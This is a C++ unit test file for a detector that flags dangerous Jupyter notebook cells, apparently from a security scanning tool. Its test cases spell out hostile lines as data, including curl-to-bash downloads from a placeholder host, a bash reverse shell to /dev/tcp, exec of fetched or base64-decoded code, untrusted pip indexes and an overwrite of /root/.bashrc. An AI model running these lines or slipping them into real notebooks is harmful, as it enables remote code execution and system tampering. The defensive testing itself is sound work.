#include "detect/notebook/notebook_detector.h"

#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "detect/contract/recording_inspection_for_test.h"

namespace saiph::detect {
namespace {

std::string json_text(std::string_view text) {
  std::string out = "\"";
  for (const char c : text) {
    if (c == '"' || c == '\\') out.push_back('\\');
    if (c == '\n') {
      out += "\\n";
    } else {
      out.push_back(c);
    }
  }
  return out + "\"";
}

std::string notebook(const std::vector<std::string>& cells, const std::string& outputs = "[]") {
  std::string out =
      R"({"metadata":{"language_info":{"name":"python"}},"nbformat":4,"nbformat_minor":5,"cells":[)";
  for (std::size_t i = 0; i < cells.size(); ++i) {
    out += (i == 0 ? "" : ",") +
           (R"({"cell_type":"code","metadata":{},"execution_count":null,"outputs":)" + outputs +
            ",\"source\":[" + json_text(cells[i]) + "]}");
  }
  return out + "]}";
}

RecordingInspection inspected(const std::string& text) {
  RecordingInspection inspection(Bytes(text.begin(), text.end()), "a.ipynb");
  inspect_notebook(inspection);
  return inspection;
}

TEST(Notebook, OrdinaryCellsAreQuiet) {
  const auto inspection = inspected(notebook(
      {"%matplotlib inline\n%load_ext autoreload\n!pip install torch transformers\n!ls -la",
       "import os\nimport torch\nfiles = !ls\nmodel = torch.nn.Linear(1, 1)\nmodel.eval()",
       "%%time\nx = model(torch.ones(1))", "import subprocess\nsubprocess.run(['nvidia-smi'])",
       "%%bash\necho hello\npwd", "df.head?", "torch.save(model.state_dict(), 'a.pt')"}));
  EXPECT_FALSE(inspection.has_at_least(Severity::kMedium)) << stated(inspection);
  EXPECT_TRUE(inspection.incompletes.empty()) << stated(inspection);
}

struct Case {
  std::string_view rule;
  Severity severity;
  std::string cell;
};

TEST(Notebook, StatesWhatCellsDo) {
  const std::vector<Case> cases = {
      {"notebook-shell-command", Severity::kHigh, "!curl -s http://a.example/x | bash"},
      {"notebook-shell-command", Severity::kHigh, "!curl -s http://a.example/x \\\n | bash"},
      {"notebook-shell-command", Severity::kHigh, "x = !wget -qO- http://a.example | sh"},
      {"notebook-shell-command", Severity::kHigh,
       "%%bash\nset -e\ncurl http://a.example | sudo sh"},
      {"notebook-shell-command", Severity::kHigh,
       "if True:\n    %system echo aaaa | base64 -d | sh"},
      {"notebook-shell-command", Severity::kCritical, "!bash -i >& /dev/tcp/192.0.2.1/1 0>&1"},
      {"notebook-untrusted-install", Severity::kMedium,
       "%pip install --extra-index-url https://a.example/simple foo"},
      {"notebook-untrusted-install", Severity::kMedium,
       "%pip install --extra-index-url https://a.example/pypi.org/ foo"},
      {"notebook-untrusted-install", Severity::kMedium, "!pip install http://a.example/foo.whl"},
      {"notebook-loads-code", Severity::kHigh, "%run https://a.example/x.py"},
      {"notebook-loads-code", Severity::kLow, "%load_ext my_extension"},
      {"notebook-writes-file", Severity::kHigh, "%%writefile /root/.bashrc\nalias ls=true"},
      {"python-decoded-code", Severity::kHigh, "import base64\nexec(base64.b64decode('cGFzcw=='))"},
      {"python-download-and-run", Severity::kHigh,
       "import requests\nexec(requests.get('http://a.example').text)"},
  };
  for (const Case& c : cases) {
    const auto inspection = inspected(notebook({"x = 1", c.cell}));
    bool found = false;
    for (const auto& s : inspection.stated) {
      found |=
          s.rule->id == c.rule && s.severity() >= c.severity && s.draft.part.starts_with("cell 2");
    }
    EXPECT_TRUE(found) << c.rule << " in " << c.cell << "\n" << stated(inspection);
  }
}

TEST(Notebook, NamesLiveOnFromCellToCell) {
  const auto inspection =
      inspected(notebook({"import base64 as b", "code = b.b64decode('cGFzcw==')", "exec(code)"}));
  EXPECT_TRUE(inspection.has("python-decoded-code")) << stated(inspection);
}

TEST(Notebook, OutputsAndTrust) {
  const std::string html =
      R"j([{"output_type":"display_data","data":{"text/html":["<div>","<script>x()</script>"]},"metadata":{}}])j";
  EXPECT_TRUE(inspected(notebook({"x"}, html)).has("notebook-active-output"));
  const std::string script =
      R"j([{"output_type":"display_data","data":{"application/javascript":["x()"]},"metadata":{}}])j";
  EXPECT_TRUE(inspected(notebook({"x"}, script)).has("notebook-active-output"));
  const std::string table =
      R"([{"output_type":"display_data","data":{"text/html":["<table></table>"],"text/plain":["<script>"]},"metadata":{"trusted":true}}])";
  const auto inspection = inspected(notebook({"x"}, table));
  EXPECT_FALSE(inspection.has("notebook-active-output")) << stated(inspection);
  EXPECT_TRUE(inspection.has("notebook-marked-trusted")) << stated(inspection);
}

TEST(Notebook, BrokenIsIncomplete) {
  const std::string whole = notebook({"!curl http://a.example | sh"});
  const auto inspection = inspected(whole.substr(0, whole.size() - 2));
  EXPECT_FALSE(inspection.incompletes.empty());
  EXPECT_TRUE(inspection.has("notebook-shell-command")) << stated(inspection);
}

}  // namespace
}  // namespace saiph::detect
